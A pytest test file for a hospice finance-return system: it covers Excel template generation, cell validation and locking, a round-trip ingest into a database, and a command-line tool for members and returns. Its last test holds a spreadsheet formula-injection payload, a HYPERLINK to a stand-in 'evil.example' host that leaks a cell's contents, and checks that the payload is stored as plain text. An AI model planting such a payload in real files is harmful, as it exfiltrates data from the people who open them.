"""The blank return template, and the ``python -m loaders`` commands that use it.

The round trip is the point: a template filled in by hand, as a finance
officer would, loads through the real ingest with exactly the figures typed.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from contract.returns import DATA_SHEETS, RETURN_FIELDS, sheet_named
from loaders import cli, template
from loaders.ingest import ACCEPTED, REJECTED, ingest_bytes
from store import db
from store.members import Member
from tests import factory

ROWAN = Member("ROW", "Rowan Hospice", "adult", "North")
TYPED = {
    "Income": factory.INCOME,
    "Expenditure": factory.EXPENDITURE,
    "Workforce": factory.WORKFORCE,
    "Volunteers": factory.VOLUNTEERS,
    "Capacity": factory.CAPACITY,
    "Activity": factory.ACTIVITY,
}


def fill_in(content: bytes, typed: dict[str, dict], prepared_by: str = "Sam Finance") -> bytes:
    """Type figures beside their row labels, the way a person fills the template in Excel."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    book["Return"]["B7"] = prepared_by
    for sheet_name, rows in typed.items():
        sheet = book[sheet_name]
        for label, values in rows.items():
            row = next(r for r in range(1, sheet.max_row + 1) if sheet.cell(r, 1).value == label)
            for column, value in enumerate(values if isinstance(values, tuple) else (values,), start=2):
                sheet.cell(row, column, value)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def stored(db_path) -> dict[tuple[str, str], float]:
    with db.connect(db_path) as con:
        rows = con.execute("select measure, breakdown, value from current_figures").fetchall()
    return {(measure, breakdown): value for measure, breakdown, value in rows}


def expected_figures() -> dict[tuple[str, str], float]:
    figures = {}
    for spec in DATA_SHEETS:
        for label, values in TYPED[spec.name].items():
            row = next(r for r in spec.rows if r.label == label)
            for column, value in zip(spec.columns, values if isinstance(values, tuple) else (values,)):
                figures[spec.figure_key(row.key, column.key)] = float(value)
    return figures


def workbook(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


# -- the round trip --------------------------------------------------------------------------


def test_a_template_filled_in_by_hand_loads_with_the_figures_typed(db_path):
    content = fill_in(template.write_template(ROWAN, 2024, 1), TYPED)

    result = ingest_bytes(content, "ROW_2024-25_Q1.xlsx", db_path=db_path)

    assert result.status == ACCEPTED, [str(p) for p in result.problems]
    assert (result.member_code, result.period) == ("ROW", "2024/25 Q1")
    assert result.problems == []
    assert stored(db_path) == expected_figures()


def test_a_template_filled_with_figures_loads_them_all(db_path):
    figures = expected_figures()
    content = template.write_template(ROWAN, 2023, 4, figures)

    result = ingest_bytes(content, "ROW_2023-24_Q4.xlsx", db_path=db_path)

    assert result.status == ACCEPTED and result.period == "2023/24 Q4"
    assert stored(db_path) == figures


def test_a_blank_template_is_refused_so_it_cannot_replace_a_good_return(db_path):
    """Blank means not reported, but a return with no figures at all is a file sent by mistake."""
    result = ingest_bytes(template.write_template(ROWAN, 2024, 2), "ROW_2024-25_Q2.xlsx", db_path=db_path)

    assert result.status == REJECTED
    assert [str(p) for p in result.errors] == [
        "This return has no figures at all: every number cell is blank. Fill in the figures you have and send it again."
    ]
    assert stored(db_path) == {}
    with db.connect(db_path) as con:
        assert con.execute("select count(*) from submissions").fetchone() == (0,)


def test_a_template_with_a_mistake_is_refused_at_the_cell(db_path):
    content = fill_in(template.write_template(ROWAN, 2024, 1), {"Income": {"Legacies": "about 100k"}})

    result = ingest_bytes(content, "ROW_2024-25_Q1.xlsx", db_path=db_path)

    assert result.status == REJECTED
    assert [str(p) for p in result.errors] == [
        "Income!B8: 'Legacies' is text, not a number. Expected a number of zero or more, or leave it blank "
        "if not reported. Found: about 100k."
    ]


# -- what the template looks like ------------------------------------------------------------


def test_the_return_sheet_names_member_year_and_quarter():
    sheet = workbook(template.write_template(ROWAN, 2024, 1))["Return"]

    assert [sheet["A3"].value, sheet["B3"].value] == ["Field", "Value"]
    rows = {sheet.cell(r, 1).value: sheet.cell(r, 2).value for r in range(4, 4 + len(RETURN_FIELDS))}
    assert rows == {
        "Member": "Rowan Hospice",
        "Financial year": "2024/25",
        "Quarter": "Q1",
        "Prepared by": None,
        "Email": None,
        "Notes": None,
    }


@pytest.mark.parametrize("spec", DATA_SHEETS, ids=lambda s: s.name)
def test_each_data_sheet_has_its_title_headings_and_every_row_label(spec):
    sheet = workbook(template.write_template(ROWAN, 2024, 3))[spec.name]

    assert sheet["A1"].value == f"Rowan Hospice — {spec.name} — 2024/25 Q3 (October to December 2024)"
    assert sheet["A2"].value and sheet["B2"].value is None
    assert [c.value for c in sheet[3]] == [spec.label_header.label, *(c.label for c in spec.columns)]
    assert [sheet.cell(r, 1).value for r in range(4, 4 + len(spec.rows))] == [r.label for r in spec.rows]


def test_the_sheets_come_in_contract_order_with_the_guide_last():
    book = workbook(template.write_template(ROWAN, 2024, 1))

    assert book.sheetnames == ["Return", *(s.name for s in DATA_SHEETS), "How to fill this in"]


@pytest.mark.parametrize("spec", DATA_SHEETS, ids=lambda s: s.name)
def test_every_number_cell_accepts_only_numbers_of_zero_or_more(spec):
    sheet = workbook(template.write_template(ROWAN, 2024, 1))[spec.name]

    validated = set()
    for validation in sheet.data_validations.dataValidation:
        assert (validation.type, validation.operator, validation.formula1) == ("decimal", "greaterThanOrEqual", "0")
        assert validation.allow_blank and validation.showErrorMessage
        assert validation.error == template.NUMBER_ERROR
        validated |= {cell for ranges in validation.sqref.ranges for cell in _cells(ranges.coord)}
    assert validated == set(template.cell_addresses(spec).values())


def _cells(coord: str) -> list[str]:
    min_col, min_row, max_col, max_row = openpyxl.utils.range_boundaries(coord)
    return [
        f"{openpyxl.utils.get_column_letter(c)}{r}"
        for r in range(min_row, max_row + 1)
        for c in range(min_col, max_col + 1)
    ]


def test_the_validation_message_is_plain_english():
    assert template.NUMBER_ERROR == (
        "Type a number of zero or more, without £ signs or commas. Leave the cell blank if you do not have "
        "the figure (blank means not reported; 0 means none)."
    )


def test_labels_and_headings_are_locked_and_number_cells_are_not():
    book = workbook(template.write_template(ROWAN, 2024, 1))
    for spec in DATA_SHEETS:
        sheet = book[spec.name]
        assert sheet.protection.sheet and not sheet.protection.password
        numbers = set(template.cell_addresses(spec).values())
        for row in sheet.iter_rows(min_row=1, max_row=3 + len(spec.rows), max_col=1 + len(spec.columns)):
            for cell in row:
                assert cell.protection.locked == (cell.coordinate not in numbers), (spec.name, cell.coordinate)
    cover = book["Return"]
    assert cover.protection.sheet
    assert cover["A4"].protection.locked and not cover["B4"].protection.locked
    assert not cover["B7"].protection.locked


@pytest.mark.parametrize(
    "sheet_name, cell, number_format",
    [
        ("Income", "B4", '"£"#,##0'),
        ("Expenditure", "B6", '"£"#,##0'),
        ("Workforce", "B4", "#,##0"),
        ("Workforce", "C4", "#,##0.0"),
        ("Volunteers", "B5", "#,##0"),
        ("Capacity", "B4", "#,##0.0"),
        ("Activity", "D4", "#,##0"),
    ],
)
def test_number_formats(sheet_name, cell, number_format):
    assert workbook(template.write_template(ROWAN, 2024, 1))[sheet_name][cell].number_format == number_format


def test_columns_are_wide_enough_for_their_labels():
    book = workbook(template.write_template(ROWAN, 2024, 1))
    for spec in DATA_SHEETS:
        widths = book[spec.name].column_dimensions
        assert widths["A"].width >= max(len(r.label) for r in spec.rows)
        assert widths["B"].width >= 16


def test_no_cell_holds_a_formula():
    book = workbook(template.write_template(ROWAN, 2024, 1, expected_figures()))
    for sheet in book:
        for row in sheet.iter_rows():
            assert not any(isinstance(c.value, str) and c.value.startswith("=") for c in row)


def test_the_guide_defines_every_row_and_states_the_rules():
    sheet = workbook(template.write_template(ROWAN, 2024, 1))["How to fill this in"]
    text = [c.value for row in sheet.iter_rows() for c in row if c.value]
    rows = {row[1].value: row[2].value for row in sheet.iter_rows(min_col=1, max_col=3) if row[1].value}

    for spec in DATA_SHEETS:
        for label in spec.rows:
            assert label.label in rows
            if label.help:
                assert rows[label.label].startswith(label.help)
    assert rows["Headcount"].startswith(sheet_named("Workforce").columns[0].help)
    guide = " ".join(map(str, text))
    for words in (
        "Blank means not reported",
        "0 means none",
        "The financial year runs April to March",
        "Stocks are counted at the end of the quarter",
        "FTE above headcount",
        "new patients above patients supported",
        "occupied bed days above bed days available",
    ):
        assert words in guide


# -- figures given to the writer ---------------------------------------------------------------


def test_figures_land_in_their_cells():
    content = template.write_template(
        ROWAN, 2024, 1, {("income", "legacies"): 412_000.0, ("fte", "nursing"): 48.5, ("deaths", "26_plus"): 30}
    )
    book = workbook(content)

    assert book["Income"]["B8"].value == 412_000
    assert book["Workforce"]["C5"].value == 48.5
    assert book["Activity"]["D14"].value == 30
    assert book["Income"]["B4"].value is None


def test_a_figure_with_no_cell_is_refused():
    with pytest.raises(KeyError, match="no cell in the return: \\('income', 'bitcoin'\\)"):
        template.write_template(ROWAN, 2024, 1, {("income", "bitcoin"): 1})


def test_the_same_template_twice_is_the_same_file():
    assert template.write_template(ROWAN, 2024, 1) == template.write_template(ROWAN, 2024, 1)
    assert template.write_template(ROWAN, 2024, 1) != template.write_template(ROWAN, 2024, 2)


def test_file_names_sort_by_member_year_and_quarter():
    assert template.file_name(ROWAN, 2024, 1) == "ROW_2024-25_Q1.xlsx"
    assert template.file_name(ROWAN, 2023, 3, "_v2_corrected") == "ROW_2023-24_Q3_v2_corrected.xlsx"


# -- the command line ----------------------------------------------------------------------------


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "loaders", *map(str, args)],
        capture_output=True,
        text=True,
        cwd=db.PROJECT_ROOT,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        timeout=120,
    )


def member_rows(db_path) -> list[tuple]:
    with db.connect(db_path) as con:
        return con.execute("select code, name, type, place from members order by code").fetchall()


def write_csv(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_members_are_added_then_updated_from_a_csv(tmp_path):
    database = tmp_path / "cli.duckdb"
    first = write_csv(
        tmp_path / "members.csv",
        "code,name,type,place\nash,Ashgrove Hospice,adult,North\nOAK,Oakleigh Children's Hospice,children,\n",
    )
    done = run("members", first, "--db", database)

    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == ["ASH Ashgrove Hospice: added", "OAK Oakleigh Children's Hospice: added"]
    assert member_rows(database) == [
        ("ASH", "Ashgrove Hospice", "adult", "North"),
        ("OAK", "Oakleigh Children's Hospice", "children", None),
    ]

    second = write_csv(
        tmp_path / "again.csv",
        "code,name,type,place\nASH,Ashgrove Hospice,adult,Northvale\nOAK,Oakleigh Children's Hospice,children,\n",
    )
    again = run("members", second, "--db", database)
    assert again.stdout.splitlines() == ["ASH Ashgrove Hospice: updated", "OAK Oakleigh Children's Hospice: unchanged"]


def test_a_bad_row_stores_nothing_and_names_its_line(tmp_path):
    database = tmp_path / "cli.duckdb"
    csv_file = write_csv(
        tmp_path / "members.csv",
        "code,name,type,place\nASH,Ashgrove Hospice,adult,North\nBIR,Birchwood Hospice,hospital,\nASH,Again,adult,\n",
    )
    done = run("members", csv_file, "--db", database)

    assert done.returncode == 1
    assert done.stderr.splitlines() == [
        "error: members.csv line 3: Member BIR has type 'hospital'; the type should be adult or children",
        "members.csv line 4: member code ASH is also on line 2; give each member once",
        "Nothing was stored; fix the lines above and run the command again.",
    ]
    assert member_rows(database) == []


def test_a_csv_without_the_columns_is_refused(tmp_path):
    csv_file = write_csv(tmp_path / "members.csv", "hospice,kind\nAshgrove,adult\n")
    done = run("members", csv_file, "--db", tmp_path / "cli.duckdb")

    assert done.returncode == 1
    assert done.stderr.splitlines()[0] == (
        "error: members.csv: line 1 should be the column names code,name,type,place; missing code, name, type"
    )


def test_the_template_command_writes_a_return_that_loads(db_path, tmp_path):
    out = tmp_path / "rowan.xlsx"
    done = run("template", "--member", "row", "--period", "2024/25 Q2", "--out", out, "--db", db_path)

    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"{out}: blank return for ROW (Rowan Hospice), 2024/25 Q2"
    result = ingest_bytes(fill_in(out.read_bytes(), TYPED), out.name, db_path=db_path)
    assert result.status == ACCEPTED and result.period == "2024/25 Q2"


@pytest.mark.parametrize(
    "member, period, message",
    [
        ("XYZ", "2024/25 Q1", "Member 'XYZ' is not in the member registry (LAR, ROW)."),
        ("ROW", "2024/25", "'2024/25' covers 4 quarters; a return is for one quarter, e.g. 2024/25 Q1"),
        (
            "ROW",
            "spring",
            "'spring' is not a period; write a financial year (2024/25), a quarter (2024/25 Q2) "
            "or a range (2023/24 Q3 to 2024/25 Q2)",
        ),
    ],
)
def test_the_template_command_refuses_what_it_cannot_write(db_path, tmp_path, member, period, message):
    done = run("template", "--member", member, "--period", period, "--out", tmp_path / "x.xlsx", "--db", db_path)

    assert done.returncode == 2  # typed wrong (common.cli)
    assert done.stderr.strip() == f"error: {message}"
    assert not (tmp_path / "x.xlsx").exists()


def returns_folder(tmp_path: Path, bad: bool) -> Path:
    folder = tmp_path / "returns"
    (folder / "old").mkdir(parents=True)
    for quarter in (1, 2):
        (folder / template.file_name(ROWAN, 2024, quarter)).write_bytes(
            fill_in(template.write_template(ROWAN, 2024, quarter), TYPED)
        )
    (folder / "~$ROW_2024-25_Q1.xlsx").write_bytes(b"an Excel lock file")
    (folder / "notes.txt").write_text("not a return")
    (folder / "old" / "ROW_2024-25_Q1.xlsx").write_bytes(template.write_template(ROWAN, 2024, 1))
    if bad:
        (folder / "ROW_2024-25_Q3.xlsx").write_bytes(
            fill_in(template.write_template(ROWAN, 2024, 3), {"Income": {"Legacies": "about 100k"}})
        )
    return folder


def test_ingesting_a_folder_loads_its_returns_in_name_order(db_path, tmp_path):
    done = run("ingest", returns_folder(tmp_path, bad=False), "--db", db_path, "--by", "Alex Smith")

    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.splitlines() == [
        "ROW_2024-25_Q1.xlsx: accepted as ROW 2024/25 Q1",
        "ROW_2024-25_Q2.xlsx: accepted as ROW 2024/25 Q2",
        "2 of 2 files loaded or already loaded; 0 rejected",
    ]
    with db.connect(db_path) as con:
        assert con.execute("select distinct sent_by from submissions").fetchall() == [("Alex Smith",)]


def test_a_rejected_file_prints_each_problem_and_exits_1(db_path, tmp_path):
    done = run("ingest", returns_folder(tmp_path, bad=True), "--db", db_path)

    assert done.returncode == 1
    assert done.stdout.splitlines() == [
        "ROW_2024-25_Q1.xlsx: accepted as ROW 2024/25 Q1",
        "ROW_2024-25_Q2.xlsx: accepted as ROW 2024/25 Q2",
        "ROW_2024-25_Q3.xlsx: rejected, 1 problem(s) to fix",
        "    Income!B8: 'Legacies' is text, not a number. Expected a number of zero or more, or leave it blank "
        "if not reported. Found: about 100k.",
        "2 of 3 files loaded or already loaded; 1 rejected",
    ]


def test_a_file_loaded_twice_is_already_loaded_and_not_an_error(db_path, tmp_path):
    path = tmp_path / "ROW_2024-25_Q1.xlsx"
    path.write_bytes(fill_in(template.write_template(ROWAN, 2024, 1), TYPED))
    assert run("ingest", path, "--db", db_path).returncode == 0

    again = run("ingest", path, "--db", db_path)

    assert again.returncode == 0
    assert again.stdout.strip() == (
        "ROW_2024-25_Q1.xlsx: already loaded (submission 1, ROW 2024/25 Q1); nothing changed"
    )


def test_a_missing_path_is_rejected(db_path, tmp_path):
    done = run("ingest", tmp_path / "nowhere.xlsx", "--db", db_path)

    assert done.returncode == 1
    assert done.stdout.strip() == f"{tmp_path / 'nowhere.xlsx'}: rejected, no such file or folder"


def test_warnings_are_printed_under_an_accepted_file(db_path, tmp_path, capsys):
    typed = {**TYPED, "Capacity": {**factory.CAPACITY, "Inpatient bed days available": 100}}
    path = tmp_path / "ROW_2024-25_Q1.xlsx"
    path.write_bytes(fill_in(template.write_template(ROWAN, 2024, 1), typed))

    assert cli.main(["ingest", str(path), "--db", str(db_path)]) == 0

    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "ROW_2024-25_Q1.xlsx: accepted as ROW 2024/25 Q1 with 1 warning(s)"
    assert lines[1].startswith("    (warning) Capacity!B5: Inpatient occupied bed days (1,120) are more than")


def test_a_busy_database_exits_3_with_its_message(db_path, tmp_path, monkeypatch, capsys):
    def busy(*args, **kwargs):
        raise db.DatabaseBusy("The database onevoice.duckdb is busy: another program is using it.")

    monkeypatch.setattr(db, "_open", busy)
    path = tmp_path / "ROW_2024-25_Q1.xlsx"
    path.write_bytes(template.write_template(ROWAN, 2024, 1))

    assert cli.main(["ingest", str(path), "--db", str(db_path)]) == 3
    assert capsys.readouterr().err.strip() == (
        "error: The database onevoice.duckdb is busy: another program is using it."
    )


def test_db_defaults_to_the_environment_variable(tmp_path, monkeypatch):
    database = tmp_path / "from-env.duckdb"
    monkeypatch.setenv("ONEVOICE_DB", str(database))
    csv_file = write_csv(tmp_path / "members.csv", "code,name,type,place\nROW,Rowan Hospice,adult,North\n")

    assert run("members", csv_file).returncode == 0
    assert member_rows(database) == [("ROW", "Rowan Hospice", "adult", "North")]


def test_a_mistyped_command_exits_2():
    assert run("ingets", "x.xlsx").returncode == 2


def test_a_member_named_like_a_formula_is_written_as_text():
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Totals")'
    book = openpyxl.load_workbook(io.BytesIO(template.write_template(Member("EVL", name, "adult"), 2024, 1)))
    assert [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
    assert book["Return"]["B4"].value == name
